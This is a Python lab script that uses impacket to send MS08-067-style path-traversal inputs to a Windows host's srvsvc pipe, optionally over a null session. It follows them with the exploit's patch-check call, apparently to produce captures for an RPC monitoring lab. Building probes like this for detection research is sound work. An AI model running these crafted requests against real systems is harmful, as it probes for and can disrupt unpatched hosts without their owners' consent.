#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""MS08-067 style probe (ATT&CK T1210) for rpcmon lab captures: srvsvc NetprPathCanonicalize
(opnum 31) with path-traversal paths over \\pipe\\srvsvc, then NetprPathCompare (opnum 32) as
the exploit's "is it patched" check does. No shellcode: the paths are plain text.

Usage: ms08_067.py [DOMAIN/]USER:PASSWORD@HOST   (an empty user and password: null session)
"""
import sys

from impacket.dcerpc.v5 import srvs
from impacket.dcerpc.v5.dtypes import NULL

import labrpc
from labrpc import log

PATHS = ['\\a\\..\\..\\b\x00',
         '\\AAAAAAAAAAAAAAAAAAAA\\..\\..\\..\\..\\BBBB\x00',
         '\\x\\..\\..\\..\\..\\..\\..\\..\\..\\..\\windows\\system32\\cmd.exe\x00']


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    domain, user, password, host = labrpc.parse_target(sys.argv[1])
    dce = labrpc.try_pipe(host, 'srvsvc', domain, user, password)
    if dce is None:
        return 1
    labrpc.bind(dce, srvs.MSRPC_UUID_SRVS, 'SRVS')
    for p in PATHS:
        try:
            srvs.hNetprPathCanonicalize(dce, p, '\\\x00', outbufLen=50)
            log('CALL SRVS 31 NetprPathCanonicalize %r -> ok' % p.rstrip('\x00'))
        except Exception as e:
            log('CALL SRVS 31 NetprPathCanonicalize %r -> %s' % (p.rstrip('\x00'), labrpc.short(e)))
    r = srvs.NetprPathCompare()
    r['ServerName'] = NULL
    r['PathName1'] = '\\a\\..\\..\\b\x00'
    r['PathName2'] = '\\b\x00'
    r['PathType'] = 0
    r['Flags'] = 0
    labrpc.call(dce, 'SRVS', r)
    return 0


if __name__ == '__main__':
    sys.exit(main())
